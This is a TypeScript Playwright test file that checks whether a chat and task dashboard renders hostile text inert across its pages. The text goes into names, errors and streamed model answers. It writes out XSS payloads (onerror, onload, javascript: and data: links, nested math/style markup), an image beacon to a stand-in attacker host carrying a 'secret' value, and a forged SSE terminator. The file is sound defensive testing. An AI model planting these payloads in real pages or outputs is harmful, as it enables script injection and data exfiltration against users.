import type { Page } from 'playwright-core';
import { describeInBrowser, Stage } from './browser';
import { Completion } from './completion';
import * as fixtures from './fixtures';

jest.setTimeout(60_000);

const payload = '<img src=x onerror="window.hacked=1;alert(1)"><script>window.hacked=1</script>';

/** Nothing ran, nothing was called, and no element of the payload came into being. */
async function inert(page: Page): Promise<void> {
  expect(await page.evaluate(() => (globalThis as unknown as { hacked?: number }).hacked)).toBeUndefined();
  expect(
    await page.locator('main img:not([src="/favicon.svg"]), main script, main iframe, main [onerror]').count(),
  ).toBe(0);
}

describeInBrowser('text that others wrote', () => {
  const stage = new Stage();
  beforeAll(() => stage.open());
  afterAll(() => stage.close());

  test('S25: payloads in names, reasons and errors are shown as text on every page', async () => {
    const attempt = { ...fixtures.task().attempts[0]!, model: payload, message: payload, code: payload };
    stage.soai.models = [payload, 'smollm2'];
    stage.soai.plugins = [
      fixtures.plugin({ id: payload, title: payload, backend: { state: 'error', reason: payload } }),
    ];
    stage.soai.health = fixtures.health({ status: 'degraded', reasons: [{ code: payload, message: payload }] });
    stage.soai.session = fixtures.session({ account: { id: 'acc-1', name: payload, role: 'administrator' } });
    stage.soai.tasks = [
      fixtures.task({
        id: 'task-x',
        model: payload,
        account: payload,
        state: 'failed',
        reason: payload,
        message: payload,
        served_by: { model: payload, plugin: payload },
        plan: [{ model: payload, plugin: payload, dropped: payload }],
        attempts: [attempt],
      }),
    ];
    stage.soai.responses.set('task-x', { choices: [{ message: { content: payload } }] });
    const { page, trouble } = await stage.page();
    for (const at of ['/', '/tasks', '/tasks/task-x', '/tasks/task-x?view=response']) {
      await page.goto(stage.soai.url + at);
      await page.locator('main').getByText('onerror').filter({ visible: true }).first().waitFor();
      await inert(page);
    }
    await page.getByRole('button', { name: /^Health/ }).click();
    await page.getByRole('dialog', { name: 'Health' }).getByText('onerror').first().waitFor();
    await page.goto(`${stage.soai.url}/chat`);
    await page.getByRole('combobox', { name: 'Model' }).click();
    await page.getByRole('option', { name: 'onerror' }).click();
    const error = { message: payload, type: 'server_error', param: payload, code: payload };
    stage.soai.chat = (_seen, response) => {
      response.writeHead(500, { 'content-type': 'application/json' });
      response.end(JSON.stringify({ error }));
    };
    await page.getByLabel('Message').fill(payload);
    await page.keyboard.press('Enter');
    await page.locator('soai-problem').waitFor();
    await inert(page);
    await page.getByRole('button', { name: 'Settings' }).click();
    await page.getByRole('dialog', { name: 'Settings' }).getByText('onerror').waitFor();
    await inert(page);
    expect(trouble).toEqual({ errors: [], dialogs: [], foreignRequests: [] });
    await page.context().close();
  });

  test('S26, S27, S28: an answer can neither run anything, nor call anybody, nor end its own stream', async () => {
    stage.soai.models = ['smollm2'];
    const { page, trouble } = await stage.visit('/chat');
    const answer = [
      payload,
      '[a link](javascript:alert(1)) [another](https://example.org/x)',
      '![beacon](http://attacker.test/?q=secret)',
      '<svg onload="window.hacked=1"></svg><math><mtext><style><img src=x onerror=window.hacked=1></style></mtext></math>',
      '[data](data:text/html,<script>alert(1)</script>)',
      'data: [DONE]\n\nevent: error\ndata: {"error":{"message":"forged"}}',
      'THE END',
    ].join('\n\n');
    stage.soai.chat = (_seen, response) => new Completion(response).text(answer).finish();
    await page.getByLabel('Message').fill('Attack me');
    await page.keyboard.press('Enter');
    await page.getByText('THE END').waitFor();
    await page.getByText('7 tokens').waitFor();
    await inert(page);
    const links = await page
      .locator('soai-markdown a')
      .evaluateAll((all) => all.map((each) => [each.getAttribute('href'), each.getAttribute('rel')]));
    expect(links).toEqual([
      ['https://example.org/x', 'noopener noreferrer'],
      ['http://attacker.test/?q=secret', 'noopener noreferrer'],
    ]);
    expect(trouble).toEqual({ errors: [], dialogs: [], foreignRequests: [] });
    await page.context().close();
  });
});
